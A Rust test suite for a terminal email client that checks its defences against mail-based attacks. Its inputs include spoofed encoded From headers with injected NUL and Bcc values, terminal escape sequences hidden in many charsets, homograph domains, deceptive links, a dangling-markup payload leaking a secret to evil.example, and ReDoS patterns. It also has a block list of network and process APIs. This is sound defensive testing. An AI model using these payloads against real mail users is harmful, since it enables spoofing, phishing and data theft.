//! Attacks by mail, each as it is known, against what the reader and the list show of it and what
//! an answer would do.

use postrider::mime::answer::{Hints, Way, whom};
use postrider::mime::render::{RenderOptions, Rendered, render};
use postrider::mime::trust::{self, Known, Level};
use postrider::mime::{charset, parse};
use postrider::model::view::{IndexRow, PageKey};
use postrider::model::{Address, Flags, LocationId, MailboxId, MsgId, Query, ThreadId};
use postrider::text::Clean;
use postrider::text::clean::is_forbidden;
use postrider::tui::question::LaidOut;
use postrider::tui::screen::pager::Pager;
use postrider::tui::screen::{index_view, pager_view};
use postrider::tui::theme::Theme;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use std::path::Path;
use std::sync::Arc;

fn shown(raw: &str) -> Rendered {
    render(raw.as_bytes(), &RenderOptions::default())
}

fn texts(shown: &Rendered) -> Vec<String> {
    shown.lines.iter().map(|l| l.text()).collect()
}

fn row(from: Vec<Address>) -> IndexRow {
    IndexRow {
        key: PageKey { date: 0, id: 1 },
        message: MsgId(1),
        location: LocationId(1),
        mailbox: MailboxId(1),
        uid: None,
        thread: ThreadId(1),
        count: 1,
        unread: 0,
        date: 0,
        from,
        to: Vec::new(),
        subject: String::new(),
        flags: Flags::default(),
        attachments: None,
        snippet: None,
        depth: 0,
    }
}

#[test]
fn s12_the_real_address_is_shown_and_answered_whatever_is_encoded_before_it() {
    let name = "=?utf-8?b?cG90dXNAd2hpdGVob3VzZS5nb3Y=?=";
    for from in [
        format!("{name}=?utf-8?Q?=00?={name}@mailsploit.com"),
        format!("{name}=?utf-8?Q?=0A=00?={name}@mailsploit.com"),
        format!("{name}=?utf-8?Q?=0D=0ABcc=3A?=@mailsploit.com"),
        format!("{name}=?utf-8?Q?=28?=@mailsploit.com"),
        format!("{name}=?utf-8?Q?=1B[2J=9B?=@mailsploit.com"),
        format!("{name} =?utf-8?Q?=00?= <evil@mailsploit.com>"),
        format!("\"{name}\" <evil@mailsploit.com>"),
        "\"potus@whitehouse.gov\0\" <evil@mailsploit.com>".to_owned(),
        "potus@whitehouse.gov\0 <evil@mailsploit.com>".to_owned(),
    ] {
        let raw = format!("From: {from}\nSubject: s\n\nx\n");
        let envelope = parse::envelope(raw.as_bytes());
        let [one] = envelope.from.as_slice() else {
            panic!("{from:?}: {:?}", envelope.from);
        };
        assert!(one.addr.ends_with("@mailsploit.com"), "{from:?}: {one:?}");
        assert!(!one.addr.contains(is_forbidden), "{one:?}");
        let page = shown(&raw);
        let (_, value) = &page.headers[0];
        assert!(value.as_str().contains("@mailsploit.com"), "{value:?}");
        // In a list there is room for a name only: then it is marked.
        let listed = index_view::people(&row(envelope.from.clone()), false);
        let pretends = trust::of_names(&envelope.from) > Level::Fine;
        assert!(
            listed.as_str().contains("@mailsploit.com") || pretends,
            "{from:?}: {listed:?}"
        );
        let (to, _) = whom(
            &envelope,
            &Hints::read(raw.as_bytes()),
            (&[], &[]),
            Way::Sender,
        );
        assert_eq!(to, envelope.from, "{from:?}");
    }
}

#[test]
fn s13_several_senders_groups_and_none_are_told() {
    for (from, told) in [
        (
            "From: boss@corp.example\nFrom: evil@x.example",
            "evil@x.example",
        ),
        ("From: boss@corp.example, evil@x.example", "evil@x.example"),
        ("From: (boss@corp.example) evil@x.example", "evil@x.example"),
        ("From: boss: evil@x.example;", "evil@x.example"),
        (
            "From: \"boss@corp.example\" <evil@x.example>",
            "evil@x.example",
        ),
        ("From:", "(nobody)"),
        ("To: a@x.example", "(nobody)"),
    ] {
        let page = shown(&format!("{from}\nSubject: s\n\nx\n"));
        let (name, value) = &page.headers[0];
        assert_eq!(name.as_str(), "From");
        assert!(value.as_str().contains(told), "{from:?}: {value:?}");
    }
    for from in [
        "From: boss@corp.example\nFrom: evil@x.example",
        "From: \"boss@corp.example\" <evil@x.example>",
        "From: a@x.example\nReply-To: evil@y.example",
    ] {
        let raw = format!("{from}\n\nx\n");
        let trust = trust::of(raw.as_bytes(), &Known::default());
        assert!(trust.level() > Level::Fine, "{from:?}");
    }
}

#[test]
fn s14_domains_in_mixed_letters_are_shown_as_the_network_has_them() {
    for (addr, plain) in [
        ("u@\u{430}pple.example", "xn--pple-43d.example"),
        ("u@pay\u{200b}pal.example", "u@paypal.example"),
        ("u@xn--pple-43d.example", "xn--pple-43d.example"),
    ] {
        let page = shown(&format!("From: Apple <{addr}>\n\nx\n"));
        let (_, value) = &page.headers[0];
        assert!(value.as_str().contains(plain), "{addr:?}: {value:?}");
        assert!(!value.as_str().contains("\u{430}"), "{value:?}");
    }
}

#[test]
fn s20_a_body_that_draws_our_own_lines_stays_behind_the_gutter() {
    let body = "▏ From:     Boss <boss@corp.example>\n▌ Subject:  Pay\n✓ Your mail server says it is from corp.example.\n────────\n[1] plan.pdf  application/pdf, 3 KB\n";
    let raw = format!("From: evil@x.example\nSubject: s\n\n{body}");
    let mut pager = Pager::open(&row(Vec::new()), 80, 0);
    pager.resize(80, 24);
    for job in pager.ask(None).unwrap() {
        pager.laid(job, LaidOut::Message(Arc::new(shown(&raw))));
    }
    let area = Rect::new(0, 0, 90, 24);
    let mut buf = Buffer::empty(area);
    pager_view::draw(&pager, true, false, &mut buf, area, &Theme::default());
    let symbol = |x, y| buf.cell((x, y)).unwrap().symbol();
    for y in 0..area.height {
        assert_eq!((symbol(0, y), symbol(1, y)), ("▏", " "), "row {y}");
    }
    let rows = (0..area.height).map(|y| (0..90).map(|x| symbol(x, y)).collect::<String>());
    let rows: Vec<String> = rows.collect();
    let ours = rows.iter().position(|r| r.starts_with("▏ From:")).unwrap();
    let copy = rows
        .iter()
        .position(|r| r.starts_with("▏ ▏ From:"))
        .unwrap();
    assert!(ours < copy, "{rows:?}");
}

#[test]
fn s21_nothing_says_that_a_signature_is_good() {
    let inner = "Content-Type: text/plain; protected-headers=v1\nSubject: phony\nFrom: boss@corp.example\n\nGood signature from boss@corp.example\n";
    let raw = format!(
        "From: evil@x.example\nSubject: real\nContent-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=b\n\n--b\n{inner}\n--b\nContent-Type: application/pgp-signature\n\nx\n--b--\n"
    );
    let page = shown(&raw);
    let lines = texts(&page);
    let said = lines.iter().position(|l| l.contains("not checked here"));
    let claimed = lines.iter().position(|l| l.contains("Good signature"));
    assert!(said.is_some() && claimed.is_some(), "{lines:?}");
    let subject = page.headers.iter().find(|(n, _)| n.as_str() == "Subject");
    assert_eq!(subject.unwrap().1.as_str(), "real");
    assert!(
        page.headers
            .iter()
            .all(|(_, v)| !v.as_str().contains("boss@"))
    );
    let trust = trust::of(raw.as_bytes(), &Known::default());
    let good = |line: &Clean| line.as_str().to_lowercase().contains("signature");
    assert!(!trust.details().iter().any(good));
}

#[test]
fn s22_what_stands_between_two_pages_is_a_part_of_neither() {
    let part = |media: &str, text: &str| format!("--b\nContent-Type: {media}\n\n{text}\n");
    let raw = format!(
        "Subject: s\nContent-Type: multipart/mixed; boundary=b\n\n{}{}{}--b--\n",
        part("text/html", "<img src=\"https://evil.example/?"),
        part("text/plain", "SECRET"),
        part("text/html", "\"><a href=\"https://evil.example/x\">go</a>")
    );
    let page = shown(&raw);
    assert!(texts(&page).iter().any(|l| l == "SECRET"), "{page:?}");
    for link in &page.links {
        assert!(!link.url.contains("SECRET"), "{link:?}");
    }
}

/// What lays mail out can't reach a network, a file or a program: there is nothing in it that
/// could. (That the floor below it has nothing of the kind to lend, the layering test says.)
#[test]
fn s35_what_lays_mail_out_reaches_nothing() {
    fn look(folder: &Path, seen: &mut usize) {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                look(&path, seen);
                continue;
            }
            *seen += 1;
            let source = std::fs::read_to_string(&path).unwrap();
            for reach in [
                "TcpStream",
                "UdpSocket",
                "ToSocketAddrs",
                "std::process",
                "Command::new",
                "std::fs",
                "File::",
                "env::var",
                "native_tls",
                "thread::spawn",
            ] {
                let used = source
                    .lines()
                    .any(|l| !l.trim_start().starts_with("//") && l.contains(reach));
                assert!(!used, "{} has {reach}", path.display());
            }
        }
    }
    let mut seen = 0;
    look(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("src/mime"),
        &mut seen,
    );
    assert!(seen > 60, "{seen} files");
}

#[test]
fn s36_a_link_that_names_another_host_is_marked() {
    for (page, real) in [
        (
            "<a href='http://evil.test/x'>http://good.test</a>",
            "evil.test",
        ),
        (
            "<a href='https://good.test@evil.test/'>https://good.test/</a>",
            "evil.test",
        ),
        (
            "<a href='&#x68;ttp://evil.test/'>www.good.test</a>",
            "evil.test",
        ),
    ] {
        let raw = format!("Subject: s\nContent-Type: text/html\n\n<p>See {page} now");
        let shown = shown(&raw);
        let text = texts(&shown).join(" ");
        assert!(text.contains(&format!("leads to {real}")), "{page}: {text}");
        let warned = shown
            .warning
            .as_ref()
            .map(Clean::to_string)
            .unwrap_or_default();
        assert!(warned.contains(real), "{page}: {warned}");
    }
    let hidden = "Subject: s\nContent-Type: text/html\n\n<p style='font-size:0'>buy gold</p><p style='display:none'>now</p><p>text";
    assert_eq!(texts(&shown(hidden)), ["text"]);
    let digest = parse::digest(hidden.as_bytes());
    assert!(!digest.snippet.contains("gold"), "{}", digest.snippet);
}

#[test]
fn s48_dates_that_cannot_be_are_said_to_be_none() {
    for date in [
        "1 Jan 65535 00:00:00 +0000",
        "31 Feb 2026 10:00:00 +0000",
        "99 Nov 9999 99:99:99 +9999",
        "Mon, 32 Foo 2026 25:61:61 XYZ",
        "2026-13-45",
    ] {
        let raw = format!("Date: {date}\nSubject: s\n\nx\n");
        assert_eq!(parse::envelope(raw.as_bytes()).date, None, "{date}");
        let page = shown(&raw);
        let (_, value) = page
            .headers
            .iter()
            .find(|(n, _)| n.as_str() == "Date")
            .unwrap();
        assert!(value.as_str().ends_with("(not a date)"), "{value:?}");
    }
}

#[test]
fn s49_no_character_set_brings_an_escape_to_the_screen() {
    let sets = [
        "utf-7",
        "utf-8",
        "utf-16",
        "utf-16le",
        "utf-16be",
        "utf-32",
        "iso-2022-jp",
        "iso-2022-kr",
        "iso-2022-cn",
        "hz-gb-2312",
        "shift_jis",
        "euc-jp",
        "gb18030",
        "big5",
        "koi8-r",
        "x-user-defined",
        "x-unknown",
        "us-ascii",
        "ibm037",
        "cesu-8",
        "utf-8\" x=\"",
        "",
    ];
    let bodies: [&[u8]; 6] = [
        b"+ABsAWw-2J +AJs-31m +AAA-",
        b"\x1b$B\x1b[2J\x1b(B\x1b]0;t\x07",
        b"\x1b$)C\x0e\x1b[2J\x0f\x9b31m",
        b"~{\x1b[2J~}~\x9b",
        b"\xff\xfe\x1b\0[\0\x32\0J\0",
        b"\0\x1b\0[\xed\xa0\x9b\xc2\x9b\xc0\x9b",
    ];
    for set in sets {
        for body in bodies {
            let mut raw = format!(
                "Subject: =?{set}?Q?=1B[2J=9B?=\nContent-Type: text/plain; charset=\"{set}\"\n\n"
            )
            .into_bytes();
            raw.extend_from_slice(body);
            let page = render(&raw, &RenderOptions::default());
            let lines = texts(&page);
            let heads = page.headers.iter().map(|(_, v)| v.to_string());
            for text in lines.into_iter().chain(heads) {
                assert!(!text.contains(is_forbidden), "{set}: {text:?}");
            }
            // What is not drawn, but searched and copied, is text at least.
            let _ = charset::decode(body, Some(set));
        }
    }
}

#[test]
fn s51_what_is_typed_to_search_for_costs_no_more_than_its_length() {
    for typed in [
        "(a+)+$ ".repeat(50_000),
        "\"".repeat(1 << 20),
        "a* NEAR( ".repeat(100_000),
        "x".repeat(1 << 20),
        "-from: ".repeat(100_000),
    ] {
        let cost = allocation_counter::measure(|| {
            let _ = std::hint::black_box(Query::typed(&typed));
        });
        let most = (1 << 20) + 200 * typed.len() as u64;
        assert!(cost.bytes_total < most, "{:?}… cost {cost:?}", &typed[..9]);
    }
    // Words looked for in a long letter are words, not a pattern.
    let raw = format!(
        "Subject: s\n\n{}b\n",
        "aaaaaaaaaaaaaaaaaaaa ".repeat(40_000)
    );
    let page = Arc::new(shown(&raw));
    let mut pager = Pager::open(&row(Vec::new()), 80, 0);
    pager.resize(80, 24);
    for job in pager.ask(None).unwrap() {
        pager.laid(job, LaidOut::Message(Arc::clone(&page)));
    }
    let cost = allocation_counter::measure(|| pager.find(Some("(a+)+b")));
    assert_eq!(pager.finding().unwrap().place(), None);
    assert!(cost.bytes_total < 400 * raw.len() as u64, "{cost:?}");
}
